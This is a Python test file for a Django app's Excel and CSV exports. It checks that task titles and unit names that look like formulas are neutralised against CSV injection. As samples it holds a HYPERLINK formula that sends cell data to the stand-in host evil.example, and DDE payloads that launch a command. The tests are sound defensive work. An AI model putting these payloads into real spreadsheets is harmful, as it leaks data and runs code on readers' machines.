"""Exports cannot attack their reader: user text never becomes a live formula (OWASP CSV injection)."""

import csv
import io

import pytest
from openpyxl import load_workbook

from directives.models import Task
from tests.directives.dashboard_data import add, client_for, make_directive

pytestmark = pytest.mark.django_db

HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào đây")'
FORMULA_LIKE = [HYPERLINK, "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)", "\t=1+1", "\r=1+1"]
PLAIN = "Tuyên truyền Kết luận 21-KL/TW"


@pytest.fixture
def formula_titles(frozen, unit_a):
    for title in [*FORMULA_LIKE, PLAIN]:
        add(unit_a, "overdue", task=Task.objects.create(directive=make_directive(), title=title))


def download(user, url) -> bytes:
    response = client_for(user).get(url)
    assert response.status_code == 200
    return b"".join(response.streaming_content)


def task_cells(content: bytes):
    sheet = load_workbook(io.BytesIO(content)).active
    heading = next(row for row in sheet.iter_rows() if row[0].value == "STT")
    column = [cell.value for cell in heading].index("Nhiệm vụ")
    return [row[column] for row in sheet.iter_rows(min_row=heading[0].row + 1)]


@pytest.mark.parametrize(
    "text,expected",
    [
        ("=1+1", "'=1+1"),
        ("+84 912", "'+84 912"),
        ("-1", "'-1"),
        ("@A1", "'@A1"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("\uff1d1+1", "'\uff1d1+1"),
        ("Kế hoạch 160-KH/TU", "Kế hoạch 160-KH/TU"),
        ("", ""),
    ],
)
def test_the_one_rule_puts_an_apostrophe_before_a_formulas_first_character(text, expected):
    from directives.exports import neutralised

    assert neutralised(text) == expected


def test_formula_like_task_titles_are_text_cells_in_the_excel_list(formula_titles, leader):
    cells = task_cells(download(leader, "/tong-hop/danh-sach/xuat.xlsx"))

    # openpyxl writes through lxml (python-docx needs it), which keeps a carriage return as written.
    written = FORMULA_LIKE
    by_value = {cell.value: cell for cell in cells}
    assert set(by_value) == {*written, PLAIN}
    assert {cell.data_type for cell in cells} == {"s"}
    assert all(by_value[title].quotePrefix for title in written)
    assert not by_value[PLAIN].quotePrefix


def test_a_formula_like_unit_name_is_a_text_cell_in_the_excel_table(frozen, leader, make_unit):
    add(make_unit(name="=cmd|' /C calc'!A0"), "overdue")

    sheet = load_workbook(io.BytesIO(download(leader, "/tong-hop/xuat.xlsx"))).active
    [cell] = [row[1] for row in sheet.iter_rows() if row[1].value == "=cmd|' /C calc'!A0"]
    assert cell.data_type == "s" and cell.quotePrefix


def test_formula_like_task_titles_are_neutralised_in_the_csv_list(formula_titles, leader):
    text = download(leader, "/tong-hop/danh-sach/xuat.csv").decode("utf-8-sig")

    rows = list(csv.reader(io.StringIO(text, newline=""), delimiter=";"))
    column = rows[0].index("Nhiệm vụ")
    titles = {row[column] for row in rows[1:]}
    assert titles == {*("'" + title for title in FORMULA_LIKE), PLAIN}
